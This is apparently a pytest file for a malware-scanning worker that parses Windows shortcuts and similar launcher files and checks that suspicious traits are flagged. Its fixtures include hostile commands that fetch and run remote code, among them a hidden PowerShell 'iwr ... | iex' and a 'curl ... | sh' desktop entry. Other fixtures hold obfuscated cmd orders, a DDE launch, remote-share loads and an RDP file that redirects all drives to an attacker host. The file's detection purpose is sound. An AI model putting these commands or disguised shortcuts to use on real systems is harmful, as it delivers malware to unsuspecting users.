"""The worker `documents` tells what shortcuts start and show, and the bytes behind the end of a shortcut."""

import pytest

from samplebank.worker.contract import NO_FINDINGS
from worker import made_documents as made
from worker.conftest import Extract
from worker.documents import found

POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


async def test_the_order_of_a_shortcut_is_told_with_its_machine(documents: Extract) -> None:
    order = f"-w hidden -c iwr {made.HOST}/a.ps1 | iex"

    result = await documents(made.lnk(POWERSHELL, order, icon="C:\\x\\invoice.pdf", shown=7))

    told = result.result["shortcut"]
    assert (told["target"], told["arguments"], told["icon"]) == (POWERSHELL, order, "C:\\x\\invoice.pdf")
    assert (told["machine"], told["machineAddress"]) == ("desktop-ada", "0a:0b:0c:0d:0e:0f")
    assert found(result) == {
        "shortcut-runs-interpreter",
        "shortcut-downloads",
        "shortcut-hides-window",
        "shortcut-poses-as-document",
    }
    assert result.score >= 70
    assert "attack.t1059.001" in {tag.value for tag in result.tags}


@pytest.mark.parametrize("part", ["by_ids", "variables"])
async def test_a_target_that_another_part_of_a_shortcut_names_is_judged_too(
    documents: Extract, part: str
) -> None:
    shell = r"C:\Windows\System32\cmd.exe"

    result = await documents(made.lnk(r"C:\invoice.pdf", "/c start x", **{part: shell}))  # type: ignore[arg-type]

    told = result.result["shortcut"]
    assert (told["target"], told["otherTargets"]) == (r"C:\invoice.pdf", [shell])
    assert found(result) == {"shortcut-runs-interpreter"}


async def test_a_target_that_all_parts_of_a_shortcut_name_is_told_once(documents: Extract) -> None:
    variables = r"%windir%\System32\WindowsPowerShell\v1.0\powershell.exe"

    result = await documents(made.lnk(POWERSHELL, by_ids=POWERSHELL.upper(), variables=variables))

    assert "otherTargets" not in result.result["shortcut"]


async def test_a_file_behind_the_end_of_a_shortcut_is_a_child(documents: Extract) -> None:
    behind = b"MZ" + bytes(range(256)) * 4

    result = await documents(made.lnk(r"C:\a.txt", behind=behind), "invoice.lnk")

    (child,) = result.children
    assert (child.name, child.data, child.how) == ("invoice.lnk/behind", behind, "lnk")
    assert found(result) == {"shortcut-carries-file"}


async def test_bytes_behind_a_shortcut_without_an_end_are_whole(documents: Extract) -> None:
    behind = b"MZ" + bytes(range(256))
    content = made.lnk(r"C:\a.txt")[:-4] + behind

    (child,) = (await documents(content)).children

    assert child.data == behind


@pytest.mark.parametrize(
    "order",
    [
        "/c " + " " * 300 + "calc.exe",
        "/c p^o^w^e^r^s^h^e^l^l -c calc",
        "-enc " + "QQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEA",
        "/c set a=abc&&%a:~1,2% x.exe",
    ],
)
async def test_a_disguised_order_is_told(documents: Extract, order: str) -> None:
    assert "shortcut-is-disguised" in found(await documents(made.lnk(r"C:\Windows\System32\cmd.exe", order)))


@pytest.mark.parametrize(
    ("target", "order"),
    [
        (r"C:\Program Files\Word\winword.exe", "letter.docx"),
        (r"C:\Windows\System32\msiexec.exe", "/x {0A1B}"),
        (r"C:\Windows\System32\cmd.exe", ""),
        (r"C:\Windows\System32\rundll32.exe", "shell32.dll,Control_RunDLL"),
        (r"C:\Users\Ada\letter.txt", ""),
    ],
)
async def test_usual_shortcuts_get_no_score(documents: Extract, target: str, order: str) -> None:
    result = await documents(made.lnk(target, order))

    assert (result.score, found(result)) == (NO_FINDINGS, set())


TEXTS = {
    "icon of a share": (b"[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\203.0.113.7\\x\\a.ico\r\n", "shortcut-loads-share"),
    "script of a share": (b"[InternetShortcut]\r\nURL=file://203.0.113.7/x/a.vbs\r\n", "shortcut-opens-remote-file"),
    "command of the shell": (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.7\\x\\a.ico\r\n", "shortcut-loads-share"),
    "library": (
        b"<?xml version='1.0'?><libraryDescription><url>http://203.0.113.7/dav/a.lnk</url></libraryDescription>",
        "shortcut-opens-remote-file",
    ),
    "settings": (b"<PCSettings><DeepLink>cmd.exe /c calc.exe</DeepLink></PCSettings>", "settings-run-program"),
    "console": (b"<MMC_ConsoleFile>res://apds.dll/redirect.html?target=javascript:eval</MMC_ConsoleFile>", "settings-run-program"),
    "query": (b"WEB\r\n1\r\nhttp://203.0.113.7/a\r\n", "query-of-web"),
    "desktop": (b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://203.0.113.7/a | sh'\n", "shortcut-downloads"),
    "theme": (b"[Theme]\r\n[VisualStyles]\r\nPath=\\\\203.0.113.7\\x\\a.msstyles\r\n", "shortcut-loads-share"),
    "connector": (b"<?xml version='1.0'?><searchConnectorDescription><url>\\\\203.0.113.7\\x</url></searchConnectorDescription>", "shortcut-opens-remote-file"),
    "remote desktop": (b"screen mode id:i:2\r\nfull address:s:rdp.evil.ru:443\r\ndrivestoredirect:s:*\r\n", "desktop-shares-disks"),
    "program by DDE with an empty item": (b"a,=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!'',b\r\n", "dde-program"),
    "settings in UTF-16": ("<PCSettings><DeepLink>cmd.exe /c calc.exe</DeepLink></PCSettings>".encode("utf-16"), "settings-run-program"),
}  # fmt: skip


@pytest.mark.parametrize("kind", TEXTS)
async def test_a_text_that_acts_is_told(documents: Extract, kind: str) -> None:
    content, finding = TEXTS[kind]

    assert finding in found(await documents(content))


async def test_a_weak_finding_does_not_make_a_text_good(documents: Extract) -> None:
    content, finding = TEXTS["query"]

    result = await documents(content)

    assert (result.score, found(result)) == (NO_FINDINGS, {finding})


@pytest.mark.parametrize(
    "content",
    [
        b"[InternetShortcut]\r\nURL=https://example.org/page\r\nIconFile=C:\\a.ico\r\n",
        b"[Desktop Entry]\nType=Application\nName=Editor\nExec=gedit %U\nIcon=gedit\n",
        b"full address:s:10.0.0.7\r\ndrivestoredirect:s:*\r\n",
        b"full address:s:rdp.example.org\r\ndrivestoredirect:s:\r\nredirectdrives:i:0\r\n",
        b"[Theme]\r\n[VisualStyles]\r\nPath=C:\\Windows\\a.msstyles\r\nWallpaper=C:\\a.jpg\r\n[Shell]\r\nCommand=2\r\n",
        b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\system32\\shell32.dll,4\r\n",
    ],
)
async def test_usual_texts_get_no_score(documents: Extract, content: bytes) -> None:
    result = await documents(content)

    assert (result.score, found(result)) == (NO_FINDINGS, set())
    assert result.result["shortcut"]


async def test_a_file_of_a_share_that_an_order_names_is_told(documents: Extract) -> None:
    result = await documents(made.lnk("C:\\Windows\\explorer.exe", "\\\\203.0.113.7@80\\dav\\a.vbs"))

    assert "shortcut-opens-remote-file" in found(result)


async def test_the_computer_of_a_connection_is_an_indicator(documents: Extract) -> None:
    result = await documents(b"full address:s:rdp.evil.ru:443\r\nremoteapplicationprogram:s:||Storage\r\n")

    assert result.result["iocs"]["domains"][0]["value"] == "rdp.evil.ru"
    assert result.result["shortcut"]["remoteapplicationprogram"] == "||Storage"


async def test_a_shortcut_that_is_cut_off_is_told_as_far_as_it_goes(documents: Extract) -> None:
    content = made.lnk(POWERSHELL, "-enc " + "A" * 60)

    result = await documents(content[:-150])

    assert result.result["shortcut"]["isDamaged"]
    assert result.result["shortcut"]["target"] == POWERSHELL
